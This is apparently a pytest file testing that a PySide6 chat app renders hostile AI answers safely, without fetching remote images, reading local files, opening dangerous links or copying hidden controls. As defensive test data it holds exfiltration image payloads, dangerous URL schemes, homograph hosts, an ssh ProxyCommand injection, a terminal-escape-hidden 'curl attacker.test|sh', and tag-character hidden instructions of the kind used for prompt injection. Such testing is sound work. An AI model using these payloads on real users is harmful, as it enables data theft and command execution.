"""Answers made to spy, to deceive or to hurt: shown as text, and nothing is fetched, read or opened
for them."""

import contextlib
import os
import socket
import threading

import pytest
from PySide6.QtCore import QPoint, Qt
from PySide6.QtGui import QDesktopServices, QGuiApplication
from PySide6.QtTest import QTest

from app.core.conversations.conversation import MessageState
from app.ui.widgets.link_dialog import examined
from tests.hostile.heavy import heavy

PIECE = 7


def show(view, words, text, *, streamed):
    """Shows an answer as it arrives or as it is opened later."""
    if not streamed:
        view.set_branch([words.question(), words.answer("a", text)], {})
        return
    view.set_branch([words.question(), words.answer("a", "", MessageState.WRITING)], {})
    for at in range(0, len(text), PIECE):
        view.add_text("a", text[at : at + PIECE])
        if at % (PIECE * 40) == 0:
            view.take_arrived()
    view.replace(words.answer("a", text))
    view.settle()


def seen(view):
    """The words of the answer as they stand on the screen."""
    view.folding.open_all()
    layout = view.column.layouts[-1]
    found = []
    for row in layout.rows:
        if row.items is None:
            row.measure(layout.text_width, layout.style, layout.references)
        found += [p.document.toPlainText() for p in row.items if p.document is not None]
    return "\n".join(found)


def use(view, hand):
    """What a person may do: look at everything, hover, copy, open again."""
    bar = view.verticalScrollBar()
    for value in (0, bar.maximum() // 2, bar.maximum()):
        bar.setValue(value)
        view.viewport().grab()
    for y in range(0, view.viewport().height(), 12):
        for x in (60, 140, 260):
            QTest.mouseMove(view.viewport(), QPoint(x, y))
    view.actions_here.select_all()
    view.actions_here.copy_selection()
    view.selection.clear()


@contextlib.contextmanager
def counting_callers():
    """An address on this computer, and a list that grows with each connection to it."""
    callers = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen():
            with contextlib.suppress(OSError):
                while True:
                    callers.append(server.accept()[1])

        threading.Thread(target=listen, daemon=True).start()
        yield f"127.0.0.1:{server.getsockname()[1]}", callers


def is_being_read(pipe):
    """Whether somebody has opened this named pipe to read it."""
    with contextlib.suppress(OSError):  # ENXIO: nobody reads
        os.close(os.open(pipe, os.O_WRONLY | os.O_NONBLOCK))
        return True
    return False


PICTURES = {
    "inline": "Here is the chart: ![chart](http://{host}/p.png?d=MY_SECRET_NOTE)",
    "by reference": '![status][r]\n\n[r]: http://{host}/p?d=MY_SECRET_NOTE "t"',
    "in a link": "[![status](http://{host}/p?d=MY_SECRET_NOTE)](http://{host}/q)",
    "as HTML": '<img src="http://{host}/p?d=MY_SECRET_NOTE">',
    "in a style": "<style>@import url(http://{host}/p?d=MY_SECRET_NOTE)</style>",
    "in a table": "| a |\n|---|\n| ![x](http://{host}/p?d=MY_SECRET_NOTE) |",
    "in a formula": "$$\\href{{http://{host}/p?d=MY_SECRET_NOTE}}{{x}}$$",
}


@pytest.mark.parametrize("streamed", [True, False])
@pytest.mark.parametrize("name", PICTURES)
def test_no_address_in_an_answer_is_ever_asked(view, words, hand, name, streamed):
    with counting_callers() as (host, callers):
        show(view, words, PICTURES[name].format(host=host), streamed=streamed)
        use(view, hand)
        assert callers == []
        assert "(not loaded)" in seen(view) or "MY_SECRET_NOTE" in seen(view) or "formula" in name


LOCAL = ["file://{0}", "{0}", "../../../../../../../../..{0}", "file://localhost{0}", "<{0}>"]
LOCAL_HTML = [
    '<link rel=stylesheet href="file://{0}">',
    "<style>@import url(file://{0})</style>",
    '<table background="file://{0}"><tr><td>hi</td></tr></table>',
    '<img src="{0}">',
]


@pytest.mark.parametrize("streamed", [True, False])
@pytest.mark.parametrize("spelling", [*(f"![a]({each})" for each in LOCAL), *LOCAL_HTML])
def test_no_file_named_in_an_answer_is_ever_read(view, words, hand, tmp_path, spelling, streamed):
    pipe = tmp_path / "x.png"
    os.mkfifo(pipe)
    read = threading.Event()
    over = threading.Event()

    def watch():
        while not over.wait(0.005):
            if is_being_read(pipe):
                read.set()
                return

    watcher = threading.Thread(target=watch)
    watcher.start()
    show(view, words, spelling.format(pipe), streamed=streamed)
    use(view, hand)
    over.set()
    watcher.join()
    assert not read.is_set()
    assert not is_being_read(pipe)


def test_html_is_text(view, words):
    text = '<b onclick="x()">bold</b> <script>alert(1)</script> <table><tr><td>cell'
    show(view, words, text, streamed=True)
    assert '<b onclick="x()">' in seen(view)
    assert "<script>alert(1)</script>" in seen(view)
    assert "<td>cell" in seen(view)


DANGEROUS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,x",
    "file:///bin/true",
    "smb://h/s",
    "file://attacker.test/share/x",
    "ms-msdt:/id",
    "search-ms:query=x",
    "vscode://x",
    "ssh://-oProxyCommand=calc",
    "qrc:/x",
    "x-apple.systempreferences:",
    "calculator://",
    "ftp://h/x",
    "about:blank",
    "//attacker.test/share",
    "\\\\attacker.test\\share",
    "https://github.com@evil.test/login",
    "https://evil.test\\@github.com/",
    "https://evil.test/\u202egnp.exe",
    "mailto:a@b.c?attach=/etc/passwd",
]


@pytest.mark.parametrize("address", DANGEROUS)
def test_a_dangerous_link_opens_nothing(view, words, hand, theme, monkeypatch, address):
    opened = []
    monkeypatch.setattr(QDesktopServices, "openUrl", opened.append)
    asked = []
    view.link_opened.connect(asked.append)
    show(view, words, f"Please [press here now](<{address}>) or {address} today", streamed=True)
    for y in range(0, view.viewport().height(), 9):
        for x in range(40, 700, 40):
            QTest.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=QPoint(x, y))
    assert all(examined(each).refusal for each in asked)
    assert examined(address).refusal
    assert opened == []


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://xn--pple-43d.com/", "xn--pple-43d.com"),
        ("https://\u0430pple.com/", "xn--pple-43d.com"),
        ("https://github.com\u2044login.evil.test/", "github.xn--comlogin-g03d.evil.test"),
        ("https://example.org/a?b=c", "example.org"),
    ],
)
def test_the_host_that_is_shown_is_the_one_that_is_opened(view, words, hand, address, host):
    asked = []
    view.link_opened.connect(asked.append)
    show(view, words, f"[https://github.com/login]({address})", streamed=False)
    QTest.mouseClick(
        view.viewport(),
        Qt.MouseButton.LeftButton,
        pos=hand.text("a", "github") + QPoint(4, 4),
    )
    (link,) = map(examined, asked)
    assert (link.refusal, link.host) == ("", host)


def copied_code(view, hand):
    QTest.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=hand.region("a", "code.copy"))
    return QGuiApplication.clipboard().text()


def test_directions_in_code_are_seen_and_not_copied(view, words, hand):
    code = 'if (level != "user\u202e \u2066// admin only\u2069 \u2066") { grant(); }'
    show(view, words, f"```js\n{code}\n```", streamed=True)
    for number in ("202E", "2066", "2069"):
        assert f"U+{number}" in seen(view)
    text = copied_code(view, hand)
    assert text == 'if (level != "user // admin only ") { grant(); }'


def test_code_that_steers_a_terminal_is_copied_without_its_controls(view, words, hand):
    code = "echo ok\x1b[8m; curl attacker.test|sh\x1b[0m\x1b]0;title\x07\x9b6n\r"
    show(view, words, f"```sh\n{code}\n```", streamed=True)
    assert "\x1b" not in seen(view)
    text = copied_code(view, hand)
    assert not [c for c in text if (ord(c) < 0x20 and c not in "\t\n") or 0x7F <= ord(c) < 0xA0]
    assert not text.endswith("\n")


def test_tag_characters_are_counted_and_not_copied_and_flags_stay(view, words):
    scotland = "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"
    hidden = "".join(chr(0xE0000 + ord(letter)) for letter in "obey")
    show(view, words, f"Summarise {scotland} this.{hidden}\u2062", streamed=True)
    view.actions_here.copy_message(1)
    assert QGuiApplication.clipboard().text() == f"Summarise {scotland} this."
    assert hidden not in seen(view)


HEAVY = heavy(0.05)


@pytest.mark.parametrize("name", HEAVY)
def test_heavy_answers_end_as_they_are_shown_whole(view, words, hand, name):
    show(view, words, HEAVY[name], streamed=True)
    streamed = seen(view)
    view.set_branch([], {})
    show(view, words, HEAVY[name], streamed=False)
    assert seen(view) == streamed
    use(view, hand)
    assert view.column.total < 40_000_000
